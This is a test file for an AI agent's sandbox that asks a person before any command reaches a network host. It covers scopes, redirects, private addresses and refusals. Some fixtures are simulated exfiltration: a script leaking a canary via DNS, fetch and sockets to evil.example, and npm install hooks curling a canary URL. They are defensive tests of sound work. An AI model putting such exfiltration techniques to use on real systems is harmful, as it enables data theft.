import { execFileSync } from "node:child_process";
import { hash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ConfirmationScope } from "@gennai/protocol/gen/gennai/agent/v1/governance_pb";
import { TestOutside } from "@gennai/testkit/test-outside";
import { expect, test } from "vitest";
import { AskedSession } from "../asked-session.ts";
import { leftovers } from "../staged/staging.ts";
import { networked } from "./networked.ts";

const canary = "canary-4711-0815";

test("a command gets exactly the host and port that a person let it reach, and nothing of its first run stays", async () => {
  using outside = new TestOutside();
  const asked = await outside.pages("data.example", 443, () => ({ body: "never: this is no TLS" }));
  const pages = await outside.pages("data.example", 8080, () => ({ body: "forty-two" }));
  await using server = await networked(outside, [
    "echo run >> runs; curl -sS --max-time 20 http://data.example:8080/answer -o answer",
  ]);
  await using session = await AskedSession.start(server);
  const { questions, output } = await session.turn("once");
  expect(questions).toHaveLength(1);
  expect(questions[0]?.title).toContain("reach data.example:8080?");
  expect(questions[0]?.impactStatement).toContain("could send everything there");
  expect(questions[0]?.offeredScopes).toEqual([ConfirmationScope.ONCE]);
  expect(pages).toEqual(["GET data.example:8080 /answer"]);
  expect(asked).toEqual([]);
  expect(outside.asked).toEqual(["data.example"]);
  expect(await server.workspace.read("answer")).toBe("forty-two");
  expect(await server.workspace.read("runs")).toBe("run\n");
  expect(output).toMatch(/\[reached data\.example:8080: \d+ bytes sent, \d+ received\]/);
  expect(leftovers(server)).toEqual([]);
  await server.running[Symbol.asyncDispose]();
  const ledger = await server.workspace.read(".orchestration/agent_trace.jsonl");
  expect(ledger).toContain('"reaches":["data.example:8080"]');
  expect(ledger).toMatch(/"connections":\[[^\]]*"address":"93\.184\.216\.34"[^\]]*"state":"allowed"/);
  expect(ledger).toMatch(/"connections":\[[^\]]*"host":"data\.example"[^\]]*"state":"refused"/);
});

test("a failure that a pipe or a later program hides leads to the question too", async () => {
  using outside = new TestOutside();
  const pages = await outside.pages("data.example", 80, () => ({ body: "one" }));
  await using server = await networked(outside, ["sh fetch.sh 2>&1 | tail -5", "sh fetch.sh || true; ls"], {
    "fetch.sh": "curl -sS --max-time 20 http://data.example/\n",
  });
  await using session = await AskedSession.start(server);
  const first = await session.turn("once");
  expect(first.questions).toHaveLength(1);
  expect(first.output).toMatch(/^one/);
  expect((await session.turn("no")).questions).toHaveLength(1);
  expect(pages).toHaveLength(1);
});

test("a no lets nothing through, and the model reads what was wanted", async () => {
  using outside = new TestOutside();
  const pages = await outside.pages("data.example", 80, () => ({ body: "x" }));
  await using server = await networked(outside, ["curl -sS --max-time 20 http://data.example/"]);
  await using session = await AskedSession.start(server);
  const { output } = await session.turn("no");
  expect(output).toContain("[refused: data.example:80]");
  expect(output).toContain("It wanted data.example:80.");
  expect(pages).toEqual([]);
  expect(outside.asked).toEqual([]);
});

test("a yes for the session holds for that program, its verb, and that port; not for a script", async () => {
  using outside = new TestOutside();
  const first = await outside.pages("data.example", 80, () => ({ body: "one" }));
  const other = await outside.pages("data.example", 8080, () => ({ body: "two" }));
  await using server = await networked(
    outside,
    [
      "curl -sS --max-time 20 http://data.example/1",
      "curl -sS --max-time 20 http://data.example/2",
      "curl -sS --max-time 20 http://data.example:8080/3",
      "sh fetch.sh",
    ],
    { "fetch.sh": `curl -sS --max-time 20 http://data.example/?${canary}\n` },
  );
  await using session = await AskedSession.start(server);
  const asked = [];
  for (const said of ["session", "no", "no", "no"] as const) asked.push((await session.turn(said)).questions);
  expect(asked.map((questions) => questions.length)).toEqual([1, 0, 1, 1]);
  expect(asked[0]?.[0]?.offeredScopes).toEqual([
    ConfirmationScope.ONCE,
    ConfirmationScope.SESSION,
    ConfirmationScope.WORKSPACE,
  ]);
  expect(asked[3]?.[0]?.offeredScopes).toEqual([ConfirmationScope.ONCE]);
  expect(first).toEqual(["GET data.example /1", "GET data.example /2"]);
  expect(other).toEqual([]);
});

test("a yes for the workspace holds in a later session, until it is taken back", async () => {
  using outside = new TestOutside();
  const pages = await outside.pages("data.example", 80, () => ({ body: "one" }));
  const command = "curl -sS --max-time 20 http://data.example/1";
  await using server = await networked(outside, [command]);
  {
    await using session = await AskedSession.start(server);
    expect((await session.turn("workspace")).questions).toHaveLength(1);
  }
  await using later = await AskedSession.start(server);
  expect((await later.turn()).questions).toEqual([]);
  expect(pages).toHaveLength(2);
  writeFileSync(join(server.stateDir, "accepted-connections.json"), "{}\n");
  await using last = await AskedSession.start(server);
  expect((await last.turn("no")).questions).toHaveLength(1);
  expect(pages).toHaveLength(2);
});

test("one question names all hosts, and a redirect is a question of its own", async () => {
  using outside = new TestOutside();
  await outside.pages("one.example", 80, () => ({ body: "one" }));
  await outside.pages("two.example", 80, () => ({ status: 302, headers: { location: "http://three.example/" } }));
  const third = await outside.pages("three.example", 80, () => ({ body: "three" }), "93.184.216.36");
  outside.names.set("two.example", ["93.184.216.35"]);
  outside.servers.set("93.184.216.35:80", outside.servers.get("93.184.216.34:80") ?? 0);
  await using server = await networked(outside, [
    "curl -sS --max-time 20 http://one.example/ ; curl -sSL --max-time 20 http://two.example/",
  ]);
  await using session = await AskedSession.start(server);
  const { questions: asked, output } = await session.turn("once", "once");
  expect(asked.map(({ title }) => title.replace(/^.* reach /, ""))).toEqual([
    "one.example:80, two.example:80?",
    "three.example:80?",
  ]);
  expect(third).toHaveLength(1);
  expect(output).toContain("three");
});

test("a private address is let through only by a question that says so", async () => {
  using outside = new TestOutside();
  const inner = await outside.pages("intern.example", 80, () => ({ body: "inner" }), "10.1.2.3");
  await using server = await networked(outside, ["curl -sS --max-time 20 http://intern.example/"]);
  await using session = await AskedSession.start(server);
  const { questions: asked } = await session.turn("once", "no");
  expect(asked).toHaveLength(2);
  expect(asked[1]?.impactStatement).toContain("intern.example leads to 10.1.2.3, in the private network");
  expect(inner).toEqual([]);
  await using again = await AskedSession.start(server);
  expect((await again.turn("once", "once")).output).toContain("inner");
});

test("what a script sends by names, to neighbours and by redirects reaches nobody", async () => {
  using outside = new TestOutside();
  const evil = await outside.pages("evil.example", 80, () => ({ body: "thanks" }), "93.184.216.99");
  const good = await outside.pages("good.example", 80, () => ({
    status: 302,
    headers: { location: `http://evil.example/${canary}` },
  }));
  const neighbour = await outside.pages("good.example", 8080, () => ({ body: "" }));
  await using server = await networked(outside, ["node leak.mjs"], {
    "leak.mjs": `
      import dns from "node:dns/promises";
      import net from "node:net";
      await fetch("http://good.example/").catch(() => {});
      await dns.lookup("${canary}.good.example").catch(() => {});
      await dns.resolveTxt("${canary}.evil.example").catch(() => {});
      await fetch("http://good.example:8080/${canary}").catch(() => {});
      for (const host of ["93.184.216.99", "evil.example", "127.0.0.53"]) {
        await new Promise((done) => {
          const socket = net.connect(80, host, () => socket.end("GET /${canary} HTTP/1.0\\r\\n\\r\\n"));
          socket.on("error", done).on("close", done);
        });
      }
      process.exit(1);`,
  });
  await using session = await AskedSession.start(server);
  const { questions: asked } = await session.turn("no");
  expect(asked).toHaveLength(1);
  expect(asked[0]?.title).toMatch(/good\.example:80, good\.example:8080, evil\.example:80\?$/);
  expect([good, evil, neighbour]).toEqual([[], [], []]);
  expect(outside.asked).toEqual([]);
});

test("what a program wanted and did without is said, and not asked about", async () => {
  using outside = new TestOutside();
  const pages = await outside.pages("telemetry.example", 80, () => ({ body: "x" }));
  await using server = await networked(outside, ["node build.mjs"], {
    "build.mjs": `await fetch("http://telemetry.example/").catch(() => {}); console.log("built");`,
  });
  await using session = await AskedSession.start(server);
  const { questions: asked, output } = await session.turn();
  expect(asked).toEqual([]);
  expect(output).toContain("built");
  expect(output).toContain("[refused: telemetry.example:80]");
  expect(pages).toEqual([]);
});

test("npm installs from a registry, by one yes", async () => {
  using outside = new TestOutside();
  const tarball = packed("lefty");
  const asked = await outside.pages("registry.example", 80, ({ url }) => {
    if (url?.endsWith(".tgz") === true) return { body: tarball };
    if (url !== "/lefty") return { status: 404, body: "{}" };
    const dist = {
      tarball: "http://registry.example/lefty/-/lefty-1.0.0.tgz",
      integrity: `sha512-${hash("sha512", tarball, "base64")}`,
    };
    const version = { name: "lefty", version: "1.0.0", dist, hasInstallScript: true };
    const body = JSON.stringify({ name: "lefty", "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": version } });
    return { headers: { "content-type": "application/json" }, body };
  });
  await using server = await networked(
    outside,
    ["npm install lefty", "node -p 'require(\"lefty\")'", "ls node_modules/lefty"],
    {
      "package.json": `{ "name": "app", "scripts": { "preinstall": "curl http://registry.example/${canary}; true" } }\n`,
      ".npmrc": "registry=http://registry.example/\naudit=false\nfund=false\n",
    },
  );
  await using session = await AskedSession.start(server);
  const { questions, output } = await session.turn("session", "once");
  expect(questions[0]?.title, output).toBe("Let npm install reach registry.example:80?");
  expect(output).toContain("exit code 0");
  expect(asked.some((line) => line.endsWith(".tgz"))).toBe(true);
  expect((await session.turn()).output).toContain("left!");
  // What the package runs, it runs without the network that it was fetched from.
  expect((await session.turn()).output).toContain("scripts-ran");
  expect(asked.filter((line) => line.includes(canary))).toEqual([]);
  expect(JSON.parse(await server.workspace.read("package.json"))).toMatchObject({ dependencies: { lefty: "^1.0.0" } });
});

test("git clones over http, by one yes", async () => {
  using outside = new TestOutside();
  const bare = servedRepository();
  await outside.pages("git.example", 80, ({ url = "" }) => {
    const file = join(bare, (url.split("?")[0] ?? "").replace(/^\/r\.git/, ""));
    return existsSync(file) ? { body: readFileSync(file) } : { status: 404 };
  });
  await using server = await networked(outside, ["git clone -q http://git.example/r.git there && cat there/readme"]);
  await using session = await AskedSession.start(server);
  const { questions: asked, output } = await session.turn("once", "no");
  expect(asked[0]?.title).toContain("reach git.example:80?");
  expect(output).toContain("hello from git");
});

function packed(name: string): Buffer {
  const directory = mkdtempSync(join(tmpdir(), "gennai-packed-"));
  mkdirSync(join(directory, "package"));
  const scripts = { postinstall: `touch scripts-ran; curl -sS -m 20 http://registry.example/${canary}; true` };
  writeFileSync(join(directory, "package", "package.json"), JSON.stringify({ name, version: "1.0.0", scripts }));
  writeFileSync(join(directory, "package", "index.js"), `module.exports = "left!";\n`);
  execFileSync("tar", ["czf", "p.tgz", "package"], { cwd: directory });
  return readFileSync(join(directory, "p.tgz"));
}

/** For git's plain protocol over http. */
function servedRepository(): string {
  const directory = mkdtempSync(join(tmpdir(), "gennai-served-"));
  const git = (...args: readonly string[]) =>
    execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@example.com", ...args], { cwd: directory });
  git("init", "-q", "-b", "main", "work");
  writeFileSync(join(directory, "work", "readme"), "hello from git\n");
  git("-C", "work", "add", "readme");
  git("-C", "work", "commit", "-qm", "first");
  git("clone", "-q", "--bare", "work", "r.git");
  git("-C", "r.git", "update-server-info");
  return join(directory, "r.git");
}
